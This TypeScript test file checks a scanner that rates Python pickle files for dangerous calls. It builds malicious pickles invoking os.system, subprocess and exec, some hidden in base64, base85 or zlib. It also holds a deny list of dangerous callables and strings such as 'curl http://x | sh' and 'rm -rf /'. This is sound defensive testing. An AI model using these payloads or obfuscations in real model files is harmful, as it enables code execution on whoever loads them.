import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import { isClassName, judgeName } from '../../../src/core/pickle/policy';
import { withoutSecrets } from '../../../src/core/pickle/render';
import {
  blob,
  bytes,
  call,
  evil,
  findings,
  global,
  longText,
  MARK,
  MEMOIZE,
  type Part,
  POP,
  payload,
  pickle,
  proto,
  RANK,
  REDUCE,
  STOP,
  scan,
  stackGlobal,
  text,
  tuple,
  worst,
} from './assembler';

const { medium, high, critical, low, info } = RANK;

async function severityOf(...parts: Part[]): Promise<number> {
  return worst(pickle(...parts));
}

const GIT85 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~';
const ADOBE85 = Array.from({ length: 85 }, (_, i) => String.fromCharCode(33 + i)).join('');

/** As Python's `base64.b85encode` without padding. */
function base85(data: Uint8Array, alphabet: string): string {
  let out = '';
  for (let i = 0; i < data.length; i += 4) {
    const count = Math.min(4, data.length - i);
    let value = 0;
    for (let k = 0; k < 4; k += 1) value = value * 256 + (data[i + k] ?? 0);
    let group = '';
    for (let k = 0; k < 5; k += 1) {
      group = alphabet[value % 85] + group;
      value = Math.floor(value / 85);
    }
    out += group.slice(0, count + 1);
  }
  return out;
}

function base32(data: Uint8Array): string {
  const bits = [...data].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  const digits = bits.match(/.{1,5}/g) ?? [];
  const text = digits.map((d) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Number.parseInt(d.padEnd(5, '0'), 2)]).join('');
  return text.padEnd(Math.ceil(text.length / 8) * 8, '=');
}

describe('pickle judgement', () => {
  it('says what would be called, with where and how', async () => {
    const [finding] = await findings(evil());
    assert.equal(finding?.ruleId, 'pickle/dangerous-call');
    assert.equal(finding?.severity, 'critical');
    assert.equal(finding?.evidence, "os.system('echo hello')");
    assert.match(finding?.message ?? '', /calls os\.system\('echo hello'\), which starts a process/);
    assert.equal(finding?.location.offset, evil().length - 2);
    assert.equal(finding?.data?.opcode, 'REDUCE');
  });

  it('reports one finding a call, not one an opcode', async () => {
    assert.equal((await findings(evil())).length, 1);
    assert.equal((await findings(pickle(payload(), POP, call(stackGlobal('os', 'remove'), text('x'))))).length, 2);
  });

  it('tells dangerous callables by what their module can do', async () => {
    const dangerous: [string, string][] = [
      ['os', 'system'],
      ['posix', 'popen'],
      ['nt', 'system'],
      ['subprocess', 'Popen'],
      ['builtins', 'eval'],
      ['builtins', '__import__'],
      ['importlib', 'import_module'],
      ['runpy', '_run_code'],
      ['pty', 'spawn'],
      ['pickle', 'loads'],
      ['marshal', 'loads'],
      ['ctypes', 'CDLL'],
      ['types', 'FunctionType'],
      ['code', 'InteractiveInterpreter.runcode'],
      ['idlelib.run', 'Executive.runcode'],
      ['timeit', 'timeit'],
      ['pip', 'main'],
      ['socket', 'create_connection'],
      ['urllib.request', 'urlopen'],
      ['requests.api', 'get'],
      ['shutil', 'rmtree'],
      ['pathlib', 'Path.write_text'],
      ['_io', 'open'],
      ['numpy', 'load'],
      ['numpy.f2py.crackfortran', 'getlincoef'],
      ['numpy.testing', 'runstring'],
      ['pandas', 'read_pickle'],
      ['pandas.core.frame', 'DataFrame.query'],
      ['torch', 'load'],
      ['torch.hub', 'load'],
      ['torch.ops', 'load_library'],
      ['torch.utils.collect_env', 'run'],
      ['torch._dynamo.guards', 'GuardBuilder.get'],
      ['joblib', 'load'],
      ['dill', 'loads'],
      ['yaml', 'unsafe_load'],
      ['sh', 'Command'],
      ['uuid', '_get_command_stdout'],
      ['logging', 'FileHandler'],
      ['logging.config', 'dictConfig'],
      ['sys', 'settrace'],
      ['sys', 'exit'],
      ['operator', 'call'],
      ['builtins', 'vars'],
      ['atexit', 'register'],
      ['pstats', 'Stats'],
      ['string', 'Formatter.get_field'],
      ['transformers.utils.hub', 'cached_file'],
      ['mlflow.projects.backend.local', '_run_entry_point'],
      ['picklescan.scanner', 'scan_bytes'],
    ];
    for (const [module, name] of dangerous) {
      assert.ok((await severityOf(call(stackGlobal(module, name), text('x')))) >= high, `${module}.${name}`);
    }
  });

  it('does not depend on lists of functions for whole families', async () => {
    for (const [module, name] of [
      ['os', 'not_invented_yet'],
      ['subprocess', 'foo'],
      ['torch._inductor.codecache', 'anything'],
      ['requests.sessions', 'x1'],
      ['asyncio.unix_events', '_Some._start'],
    ] as const) {
      assert.ok((await severityOf(call(stackGlobal(module, name)))) >= high, `${module}.${name}`);
    }
  });

  it('is quiet about what pickles of data and models call', async () => {
    const harmless: [string, string, 'call' | 'new'][] = [
      ['collections', 'OrderedDict', 'call'],
      ['datetime', 'datetime', 'call'],
      ['uuid', 'UUID', 'new'],
      ['decimal', 'Decimal', 'call'],
      ['numpy', 'dtype', 'call'],
      ['numpy.core.multiarray', '_reconstruct', 'call'],
      ['numpy._core.multiarray', 'scalar', 'call'],
      ['numpy._core.numeric', '_frombuffer', 'call'],
      ['pandas.core.frame', 'DataFrame', 'new'],
      ['pandas._libs.internals', '_unpickle_block', 'call'],
      ['pandas._libs.arrays', '__pyx_unpickle_NDArrayBacked', 'call'],
      ['sklearn.linear_model._logistic', 'LogisticRegression', 'new'],
      ['sklearn.gaussian_process._gpr', 'GaussianProcessRegressor', 'new'],
      ['sklearn.tree._tree', 'Tree', 'call'],
      ['torch._utils', '_rebuild_tensor_v2', 'call'],
      ['torch.nn.modules.linear', 'Linear', 'new'],
      ['torch', 'device', 'call'],
      ['xgboost.core', 'Booster', 'new'],
      ['lightgbm.basic', 'Booster', 'new'],
      ['scipy.sparse._csr', 'csr_matrix', 'new'],
      ['scipy.stats._continuous_distns', 'norm_gen', 'new'],
      ['transformers.training_args', 'TrainingArguments', 'new'],
      ['pathlib', 'PosixPath', 'call'],
      ['argparse', 'Namespace', 'new'],
      ['re', '_compile', 'call'],
      ['statsmodels.regression.linear_model', 'OLS', 'new'],
    ];
    for (const [module, name, how] of harmless) {
      const made =
        how === 'call'
          ? call(stackGlobal(module, name), text('x'))
          : bytes(stackGlobal(module, name), tuple(), 0x81, '}', 'b');
      assert.ok((await severityOf(made)) <= info, `${module}.${name}`);
    }
  });

  it('takes the unknown for what it is', async () => {
    const unknown = stackGlobal('mypackage.model', 'build');
    assert.equal(await severityOf(call(unknown)), medium);
    const made = (module: string, name: string) => bytes(stackGlobal(module, name), tuple(), 0x81, '}', 'b');
    assert.equal(await severityOf(made('mypackage.model', 'Net')), medium);
    assert.ok((await severityOf(made('__main__', 'Net'))) <= info);
    assert.equal(await severityOf(call(stackGlobal('__main__', 'Net'), text('x'))), medium);
    assert.ok((await severityOf(bytes(MARK, 'i__main__\nNet\n'))) <= info);
    assert.equal(await severityOf(bytes(MARK, text('x'), 'i__main__\nNet\n')), medium);
    assert.equal(await severityOf(bytes(MARK, 'isubprocess\nPopen\n')), critical);
    assert.ok((await severityOf(call(stackGlobal('__main__', 'os.system'), text('x')))) >= high);
    assert.ok((await severityOf(unknown)) <= info);
    const strict = await scan(pickle(call(unknown)), 'model.pkl', { models: { enabled: true, strict: true } });
    assert.equal(strict?.findings[0]?.severity, 'high');
    assert.equal(await severityOf(call(bytes(0x82, 7))), medium);
  });

  it('follows the position: called, constructed, stored, handed on, only there', async () => {
    const system = stackGlobal('os', 'system');
    assert.equal(await severityOf(system), medium);
    assert.equal(await severityOf(call(stackGlobal('builtins', 'map'), system, bytes(']'))), critical);
    assert.equal(await severityOf(call(stackGlobal('collections', 'defaultdict'), system)), critical);
    const stored = bytes(
      stackGlobal('sklearn.preprocessing._function_transformer', 'FunctionTransformer'),
      tuple(),
      0x81,
      '}',
      text('func'),
      system,
      's',
      'b',
    );
    assert.equal(await severityOf(stored), high);
    assert.ok((await severityOf(bytes(system, '}', 'b'))) >= high);
  });

  it('sees through dotted names and aliases', async () => {
    const cases: [string, string, number][] = [
      ['random', '_os.system', critical],
      ['torch.serialization', 'os.system', critical],
      ['torch', 'serialization.os.system', critical],
      ['collections', '_sys.modules.get', high],
      ['collections', 'OrderedDict.__class__.__subclasses__', high],
      ['numpy', '__builtins__', high],
      ['codecs', 'decode.__self__', high],
      ['builtins', 'eval.__call__', high],
      ['sklearn.utils', 'joblib.load', high],
    ];
    for (const [module, name, least] of cases) {
      assert.ok((await severityOf(call(stackGlobal(module, name)))) >= least, `${module}:${name}`);
    }
  });

  it('judges adapters by what they are given', async () => {
    const partial = stackGlobal('functools', 'partial');
    assert.ok((await severityOf(call(partial, stackGlobal('builtins', 'int')))) <= info);
    assert.equal(await severityOf(call(partial, stackGlobal('os', 'system'))), critical);
    assert.equal(await severityOf(call(partial, bytes('K', 1))), medium);
    assert.ok(
      (await severityOf(call(stackGlobal('collections', 'defaultdict'), stackGlobal('builtins', 'list')))) <= info,
    );
  });

  it('lets enumerations of Python 3.11 and bound methods be', async () => {
    const getattr = stackGlobal('builtins', 'getattr');
    assert.ok(
      (await severityOf(call(getattr, stackGlobal('transformers.trainer_utils', 'IntervalStrategy'), text('STEPS')))) <=
        info,
    );
    const model = bytes(stackGlobal('torch.nn.modules.conv', 'LazyConv2d'), tuple(), 0x81);
    assert.ok((await severityOf(call(getattr, model, text('_lazy_load_hook')))) <= info);
    assert.ok((await severityOf(call(getattr, stackGlobal('os', ''), text('system')))) >= medium);
    assert.equal(await severityOf(call(getattr, bytes('K', 1), text('real'))), medium);
    assert.ok((await severityOf(call(getattr, bytes('K', 1), text('__class__')))) >= high);
  });

  it('finds names that are computed, and changes of imported things', async () => {
    const join = bytes(stackGlobal('builtins', 'str.join'), text(''), MARK, text('o'), text('s'), 'l', 0x86, REDUCE);
    const computed = await findings(pickle(join, text('system'), 0x93, tuple(text('x')), REDUCE));
    assert.ok(computed.some(({ ruleId, severity }) => ruleId === 'pickle/dangerous-call' && severity === 'critical'));
    const letters = bytes(
      stackGlobal('builtins', 'str.join'),
      text(''),
      MARK,
      text('my'),
      text('package'),
      'l',
      0x86,
      REDUCE,
    );
    const hidden = await findings(pickle(letters, text('thing'), 0x93));
    assert.ok(hidden.some(({ ruleId, severity }) => ruleId === 'pickle/hidden-name' && severity === 'high'));
    const unresolved = await findings(pickle(call(stackGlobal('mypackage', 'name')), text('system'), 0x93));
    assert.ok(unresolved.some(({ ruleId, severity }) => ruleId === 'pickle/hidden-name' && severity === 'high'));
    const poisoned = await findings(
      pickle(
        stackGlobal('pydantic', '_dynamic_imports'),
        text('Popen'),
        tuple(text('pydantic'), text('subprocess')),
        's',
      ),
    );
    assert.ok(poisoned.some(({ ruleId }) => ruleId === 'pickle/object-overwritten'));
  });

  it('simulates the memo instead of guessing it from neighbours', async () => {
    const decoy = bytes(
      text('os'),
      '}',
      POP,
      MEMOIZE,
      POP,
      text('system'),
      MEMOIZE,
      POP,
      text('collections'),
      POP,
      'h',
      0,
      'h',
      1,
      0x93,
    );
    assert.equal(await severityOf(decoy, tuple(text('x')), REDUCE), critical);
  });

  it('judges code of dill and cloudpickle as code', async () => {
    const [finding] = await findings(pickle(call(stackGlobal('cloudpickle.cloudpickle', '_make_function'), text('x'))));
    assert.equal(finding?.ruleId, 'pickle/code-object');
    assert.equal(finding?.severity, 'high');
  });

  it('judges bytes that are loaded again by what they hold', async () => {
    const load = (content: Uint8Array) => call(stackGlobal('torch.storage', '_load_from_bytes'), blob(content));
    assert.equal(await severityOf(load(evil())), critical);
    assert.ok((await severityOf(load(pickle('}', text('a'), 'K', 1, 's')))) <= low);
    assert.equal(await severityOf(load(bytes('something else'))), critical);
    // Protocol 2 has no bytes: they are text that is encoded while loading.
    const asText = (content: Uint8Array) =>
      call(stackGlobal('_codecs', 'encode'), longText(String.fromCharCode(...content)), text('latin1'));
    const loadText = (content: Uint8Array) => call(stackGlobal('torch.storage', '_load_from_bytes'), asText(content));
    assert.equal(await severityOf(loadText(evil())), critical);
    assert.ok((await severityOf(loadText(pickle('}', text('a longer name'), 'K', 200, 's')))) <= low);
    const hidden = await findings(pickle(asText(evil())));
    assert.ok(hidden.some(({ evidence }) => evidence?.startsWith('os.system')));
  });

  it('judges each of hundreds of storages and lists a few', async () => {
    const storage = call(stackGlobal('torch.storage', '_load_from_bytes'), blob(pickle('}', text('a'), 'K', 1, 's')));
    const many = (last: Uint8Array) => pickle(']', MARK, ...Array.from({ length: 400 }, () => storage), last, 'e');
    const quiet = await findings(many(bytes('N')));
    assert.ok(quiet.every(({ severity }) => RANK[severity] <= low));
    const nested = quiet.filter(({ ruleId }) => ruleId === 'pickle/nested-pickle');
    assert.ok(nested.length > 1 && nested.length < 30);
    assert.ok(nested.some(({ message }) => /^384 more constants/.test(message)));
    assert.equal(await worst(many(call(stackGlobal('torch.storage', '_load_from_bytes'), blob(evil())))), critical);
  });

  it('knows the reconstructors of the libraries of the field', async () => {
    for (const [module, name] of [
      ['pyarrow.lib', '_restore_array'],
      ['spacy.tokens.doc', 'unpickle_doc'],
      ['shapely.io', 'from_wkb'],
      ['torch._C', 'Generator'],
      ['statsmodels.tsa.statespace._representation', 'dStatespace'],
      ['keras.src.models.sequential', 'Sequential._unpickle_model'],
      ['scipy._lib.array_api_compat.numpy._aliases', 'asarray'],
    ] as const) {
      const severity = await severityOf(
        name === 'asarray' ? stackGlobal(module, name) : call(stackGlobal(module, name), blob(bytes('x'))),
      );
      assert.ok(severity <= info, `${module}.${name}`);
    }
    const local = stackGlobal('fsspec.implementations.local', 'LocalFileSystem');
    const remote = stackGlobal('fsspec.implementations.http', 'HTTPFileSystem');
    assert.ok((await severityOf(call(stackGlobal('fsspec.spec', 'make_instance'), local, tuple()))) <= info);
    assert.ok((await severityOf(call(stackGlobal('fsspec.spec', 'make_instance'), remote, tuple()))) >= high);
    const array = stackGlobal('jax._src.array', '_reconstruct_array');
    assert.ok((await severityOf(call(array, stackGlobal('numpy.core.multiarray', '_reconstruct'), tuple()))) <= info);
    assert.equal(await severityOf(call(array, stackGlobal('os', 'system'), tuple(text('x')))), critical);
  });

  it('reads pickles in constants: raw, base64 and hexadecimal', async () => {
    const inner = evil();
    const b64 = btoa(String.fromCharCode(...inner));
    const hex = [...inner].map((b) => b.toString(16).padStart(2, '0')).join('');
    const asBytes = (value: string) => blob(new TextEncoder().encode(value));
    for (const constant of [blob(inner), text(b64), text(hex), asBytes(b64), asBytes(hex)]) {
      const list = await findings(pickle(constant));
      assert.ok(list.some(({ ruleId }) => ruleId === 'pickle/nested-pickle'));
      assert.ok(
        list.some(
          ({ evidence, location }) => evidence?.startsWith('os.system') && location.member?.startsWith('constant@'),
        ),
      );
    }
    assert.equal(await worst(pickle(blob(pickle('}', text('name'), 'K', 1, 's')))), info);
    assert.equal(await worst(pickle(text('gASVsomething that only begins like one'))), -1);
  });

  it('reads pickles in base32, in both kinds of base85 and as numbers', async () => {
    const hold = (value: Uint8Array) => pickle('}', text('x'), value, 's');
    for (const version of [2, 4, 5]) {
      const inner = bytes(proto(version), ...[...evil().subarray(2)]);
      const numbers = bytes(']', MARK, ...[...inner].flatMap((byte) => ['K', byte]), 'e');
      for (const [title, value] of [
        ['base32', longText(base32(inner))],
        ['base85', longText(base85(inner, GIT85))],
        ['base85 of bytes', blob(bytes(base85(inner, GIT85)))],
        ['ascii85', longText(base85(inner, ADOBE85))],
        ['ascii85 of Adobe', longText(`<~${base85(inner, ADOBE85)}~>`)],
        ['zlib', longText(base85(new Uint8Array(deflateSync(inner)), GIT85))],
        ['numbers', numbers],
      ] as const) {
        assert.equal(await worst(hold(value)), critical, `${title} ${version}`);
      }
      const harmless = bytes(proto(version), '}', STOP, new Uint8Array(12));
      assert.ok((await worst(hold(longText(base32(harmless))))) <= info);
    }
    // What only begins like one.
    for (const value of ['fCamera and lens of the photograph', 'J-20 is no pickle at all', 'QABCDEFGHIJKLMNOPQRSTUV']) {
      assert.equal(await worst(hold(longText(value))), -1, value);
    }
    assert.equal(await worst(hold(bytes(']', MARK, ...Array.from({ length: 40 }, () => bytes('K', 0x80)), 'e'))), -1);
  });

  it('does not repeat credentials of a payload', async () => {
    const token = ['ghp', 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4'].join('_');
    const list = await findings(
      pickle(call(stackGlobal('os', 'system'), text(`curl https://user:pa55word@example.org/${token}`))),
    );
    const shown = JSON.stringify(list);
    assert.ok(!shown.includes('pa55word') && !shown.includes(token));
    assert.match(shown, /curl https:\/\/\*\*\*@example\.org/);
    assert.equal(withoutSecrets('https://a:b@c/d'), 'https://***@c/d');
  });

  it('never runs what merely mentions dangerous names', async () => {
    const words = [
      'os.system',
      'eval',
      'subprocess.Popen',
      '__import__("os")',
      'cos\nsystem',
      'rm -rf /',
      'curl http://x | sh',
    ];
    const vocabulary = bytes('}', MARK, ...words.map((word) => bytes(text(word), 'K', 1)), 'u');
    assert.equal(await severityOf(vocabulary), -1);
  });

  it('takes a getter for what it is used for', async () => {
    const getter = (name: string, argument: string) => call(stackGlobal('operator', name), text(argument));
    const held = (fn: Uint8Array) =>
      bytes(
        stackGlobal('sklearn.preprocessing._function_transformer', 'FunctionTransformer'),
        tuple(),
        0x81,
        '}',
        text('func'),
        fn,
        's',
        'b',
      );
    // Kept by a transformer as its function, as honest pipelines do.
    assert.ok((await severityOf(held(getter('itemgetter', 'text')))) <= info);
    assert.ok((await severityOf(held(getter('methodcaller', 'toarray')))) <= info);
    assert.ok((await severityOf(held(getter('attrgetter', 'values')))) <= info);
    assert.ok((await severityOf(bytes(']', getter('itemgetter', 'score'), 'a'))) <= info);
    // Kept, but not harmless; and as the whole content of a file.
    assert.equal(await severityOf(held(getter('methodcaller', 'eval'))), medium);
    assert.ok((await severityOf(held(getter('attrgetter', '__globals__')))) >= high);
    for (const name of ['itemgetter', 'attrgetter', 'methodcaller']) {
      assert.equal(await severityOf(getter(name, 'a')), medium, name);
    }
    // Applied to the dictionary of a module it gives what is in there.
    const system = call(getter('itemgetter', 'system'), stackGlobal('os', '__dict__'));
    assert.equal(await severityOf(call(system, text('x'))), critical);
  });

  it('finds code in the state of objects whose class executes it', async () => {
    const frozen = (template: string) =>
      bytes(
        stackGlobal('scipy.stats._continuous_distns', 'norm_gen'),
        tuple(),
        0x81,
        '}',
        text('_parse_arg_template'),
        longText(template),
        's',
        'b',
      );
    const honest =
      '\ndef _parse_args(self, a, loc=0, scale=1):\n    return (a,), loc, scale\n\n' +
      'def _parse_args_rvs(self, a, loc=0, scale=1, size=None):\n    return self._argcheck_rvs(a, loc, scale, size=size)\n\n' +
      "def _parse_args_stats(self, a, loc=0, scale=1, moments='mv'):\n    return (a,), loc, scale, moments\n";
    assert.ok((await severityOf(frozen(honest))) <= info);
    assert.equal(await severityOf(frozen(`${honest}import os\n`)), critical);
    assert.equal(await severityOf(frozen('def _parse_args(self, a=exec("1")):\n    return a\n')), critical);
  });

  it('knows that SymPy evaluates the text it is given', async () => {
    const sin = (argument: Uint8Array) =>
      bytes(stackGlobal('sympy.functions.elementary.trigonometric', 'sin'), tuple(argument), 0x81);
    const symbol = bytes(stackGlobal('sympy.core.symbol', 'Symbol'), tuple(text('f(x)')), 0x81);
    assert.ok((await severityOf(sin(symbol))) <= info);
    assert.equal(await severityOf(sin(text('__import__("os").system("x")'))), high);
  });

  it('lets generic types, unions, enumerations and values of the standard library be', async () => {
    const { or, union } = { or: stackGlobal('_operator', 'or_'), union: tuple(stackGlobal('builtins', 'int')) };
    assert.ok((await severityOf(call(stackGlobal('functools', 'reduce'), or, union))) <= info);
    const optional = call(
      stackGlobal('_operator', 'getitem'),
      stackGlobal('typing', 'Optional'),
      stackGlobal('builtins', 'int'),
    );
    assert.ok((await severityOf(optional)) <= info);
    assert.equal(await severityOf(call(stackGlobal('_operator', 'getitem'), bytes('K', 1), bytes('K', 1))), medium);
    for (const [module, name] of [
      ['socket', 'AddressFamily'],
      ['ssl', 'TLSVersion'],
      ['re', 'RegexFlag'],
      ['calendar', 'Day'],
    ] as const) {
      assert.ok((await severityOf(call(stackGlobal(module, name), bytes('K', 2)))) <= info, `${module}.${name}`);
    }
    for (const [module, name] of [
      ['configparser', 'ConfigParser'],
      ['http.cookies', 'SimpleCookie'],
      ['urllib.parse', 'ParseResult'],
      ['ast', 'Module'],
    ] as const) {
      assert.ok((await severityOf(call(stackGlobal(module, name)))) <= info, `${module}.${name}`);
    }
    for (const [module, name] of [
      ['configparser', 'ConfigParser.read'],
      ['ast', 'parse'],
      ['urllib.parse', 'urllib.request.urlopen'],
    ] as const) {
      assert.ok((await severityOf(call(stackGlobal(module, name), text('x')))) >= high, `${module}.${name}`);
    }
  });

  it('judges helpers of dill by what they make', async () => {
    const dill = (name: string, ...args: Uint8Array[]) => call(stackGlobal('dill._dill', name), ...args);
    const reconstruct = stackGlobal('numpy.core.multiarray', '_reconstruct');
    assert.ok((await severityOf(dill('_load_type', text('slice')))) <= info);
    assert.ok((await severityOf(call(dill('_load_type', text('PartialType')), stackGlobal('numpy', 'mean')))) <= info);
    assert.ok((await severityOf(dill('_eval_repr', text('range(0, 3)')))) <= info);
    assert.ok((await severityOf(dill('_create_array', reconstruct, tuple()))) <= info);
    assert.equal(
      await severityOf(call(dill('_load_type', text('PartialType')), stackGlobal('os', 'system'))),
      critical,
    );
    assert.ok((await severityOf(dill('_load_type', text('CodeType')))) >= high);
    assert.equal(await severityOf(dill('_eval_repr', text('range(exec("1"))'))), critical);
    assert.equal(await severityOf(dill('_create_array', stackGlobal('os', 'system'), tuple(text('x')))), critical);
  });

  it('asks what the constructor of a library is given', async () => {
    const dataset = (place: string) =>
      call(stackGlobal('torch_geometric.data.database', 'SQLiteDatabase'), text(place));
    assert.ok((await severityOf(dataset('name'))) <= info);
    assert.equal(await severityOf(dataset('/tmp/file')), medium);
    assert.equal(await severityOf(dataset('https://example.org/')), medium);
    assert.equal(
      await severityOf(call(stackGlobal('torch.cuda.memory', 'CUDAPluggableAllocator'), text('x.so'))),
      critical,
    );
  });

  it('tells what is called at once from what is only kept', async () => {
    const unknown = stackGlobal('sklearn.utils.something', 'compute');
    assert.ok((await severityOf(call(stackGlobal('functools', 'partial'), unknown))) <= info);
    assert.equal(await severityOf(call(stackGlobal('builtins', 'map'), unknown, bytes(']'))), medium);
    // Judged by nothing but a word of its name.
    const named = stackGlobal('matplotlib.colorbar', '_remove_cbar_axes');
    assert.equal(await severityOf(call(stackGlobal('functools', 'partial'), named)), low);
    assert.equal(await severityOf(call(stackGlobal('builtins', 'map'), named, bytes(']'))), medium);
  });

  it('lets empty objects of classes be made whose calls are dangerous', async () => {
    const construct = (cls: Uint8Array) => bytes(cls, ')', 0x81);
    for (const [module, name] of [
      ['requests.sessions', 'Session'],
      ['yaml.nodes', 'ScalarNode'],
      ['mimetypes', 'MimeTypes'],
      ['gettext', 'NullTranslations'],
    ] as const) {
      assert.equal(await severityOf(construct(stackGlobal(module, name)), '}b'), -1, name);
      assert.ok((await severityOf(call(stackGlobal(module, name)))) >= high, `${name} called`);
    }
    assert.ok((await severityOf(construct(stackGlobal('requests.sessions', 'SessionRedirectMixin')))) >= high);
  });

  it('knows objects of packages and repositories that checkpoints are made with', async () => {
    const construct = (module: string, name: string) => bytes(stackGlobal(module, name), ')', 0x81, '}b');
    for (const [module, name] of [
      ['trl.trainer.sft_config', 'SFTConfig'],
      ['models.yolo', 'DetectionModel'],
      ['models.common', 'Conv'],
      ['langchain_core.documents.base', 'Document'],
      ['langchain_community.docstore.in_memory', 'InMemoryDocstore'],
      ['megatron.core.transformer.enums', 'AttnMaskType'],
    ] as const) {
      assert.ok((await severityOf(construct(module, name))) <= info, `${module}.${name}`);
    }
    assert.equal(await severityOf(construct('models.evil', 'Net')), medium);
    assert.equal(await severityOf(construct('langchain.agents', 'PythonREPL')), critical);
    assert.equal(await severityOf(call(stackGlobal('langchain_core.documents.base', 'Document'), text('x'))), critical);
  });

  it('knows that the base of an object of old protocols is initialised', async () => {
    const rebuild = (cls: Uint8Array, base: Uint8Array, state: Uint8Array) =>
      call(stackGlobal('copyreg', '_reconstructor'), cls, base, state);
    const namespace = stackGlobal('argparse', 'Namespace');
    assert.equal(await severityOf(rebuild(namespace, stackGlobal('subprocess', 'Popen'), text('x'))), critical);
    assert.equal(await severityOf(rebuild(namespace, stackGlobal('builtins', 'object'), bytes('N'))), -1);
    assert.equal(await severityOf(rebuild(namespace, stackGlobal('builtins', 'dict'), bytes('}'))), -1);
  });

  it('knows that the subtype of a rebuilt array is never called', async () => {
    const memmap = stackGlobal('numpy', 'memmap');
    const rebuild = (...first: Uint8Array[]) =>
      call(stackGlobal('numpy.core.multiarray', '_reconstruct'), ...first, tuple(bytes('K', 0)), bytes('C', 1, 'b'));
    assert.equal(await severityOf(rebuild(memmap)), -1);
    assert.ok((await severityOf(bytes(memmap, tuple(text('/etc/passwd')), 0x81))) >= high);
    assert.equal(await severityOf(call(stackGlobal('builtins', 'map'), memmap, bytes(']'))), high);
    assert.equal(
      await severityOf(rebuild(memmap), POP, call(stackGlobal('builtins', 'map'), memmap, bytes(']'))),
      high,
    );
    assert.ok((await severityOf(rebuild(tuple(stackGlobal('os', 'system'))))) >= high);
  });

  it('reads bound methods of constants and lists of byte numbers', async () => {
    const bound = (owner: Uint8Array, name: string) => call(stackGlobal('builtins', 'getattr'), owner, text(name));
    assert.equal(await severityOf(bound(text(' '), 'join')), -1);
    assert.equal(await severityOf(bound(text(' '), '__class__')), high);
    const join = bytes(bound(text(''), 'join'), tuple(bytes(']', MARK, text('sy'), text('stem'), 'e')), REDUCE);
    const [found] = await findings(pickle(text('os'), join, 0x93, tuple(text('x')), REDUCE));
    assert.equal(found?.evidence, "os.system('x')");
    const name = bytes(
      bound(call(stackGlobal('builtins', 'bytes'), bytes(']', MARK, 'K', 0x6f, 'K', 0x73, 'e')), 'decode'),
      ')',
      REDUCE,
    );
    assert.equal(
      (await findings(pickle(name, text('system'), 0x93, tuple(text('x')), REDUCE)))[0]?.evidence,
      "os.system('x')",
    );
  });

  it('tells functions that compute from those that act when they are handed on', async () => {
    const partial = (fn: Uint8Array, ...rest: Uint8Array[]) => call(stackGlobal('functools', 'partial'), fn, ...rest);
    for (const name of ['round', 'pow', 'str.split', 'len']) {
      assert.equal(await severityOf(partial(stackGlobal('builtins', name))), -1, name);
    }
    assert.equal(await severityOf(call(stackGlobal('builtins', 'filter'), bytes('N'), bytes(']'))), -1);
    assert.equal(await severityOf(partial(stackGlobal('builtins', 'print'))), low);
    assert.equal(
      await severityOf(call(stackGlobal('builtins', 'map'), stackGlobal('builtins', 'print'), bytes(']'))),
      high,
    );
    assert.ok((await severityOf(partial(stackGlobal('builtins', 'exec')))) >= high);
  });

  it('knows modules that act when they are imported and classes that start something from one number', async () => {
    assert.equal(await severityOf(stackGlobal('antigravity', 'x')), medium);
    assert.equal(await severityOf(stackGlobal('package.__main__', 'x')), medium);
    assert.equal(
      await severityOf(call(stackGlobal('joblib.externals.loky.backend.popen_loky_posix', 'Popen'), bytes('K', 1))),
      high,
    );
  });

  it('maps Python 2 names and keeps the original', async () => {
    const [finding] = await findings(bytes(proto(2), global('commands', 'getoutput'), text('x'), 0x85, REDUCE, STOP));
    assert.equal(finding?.severity, 'critical');
    assert.equal(finding?.data?.pythonTwoName, 'commands.getoutput');
  });

  it('knows classes from functions by their names', () => {
    assert.equal(isClassName('sklearn.svm._classes', 'SVC'), true);
    assert.equal(isClassName('scipy.sparse._csr', 'csr_matrix'), true);
    assert.equal(isClassName('sklearn.datasets', 'load_iris'), false);
    assert.equal(judgeName('sklearn.ensemble._forest', 'RandomForestClassifier').tier, 'library');
    assert.equal(judgeName('numpy.core.multiarray', '_reconstruct').tier, 'safe');
    assert.equal(judgeName('nobody', 'knows').tier, 'unknown');
    assert.equal(judgeName('os', 'system').capability, 'process');
  });
});
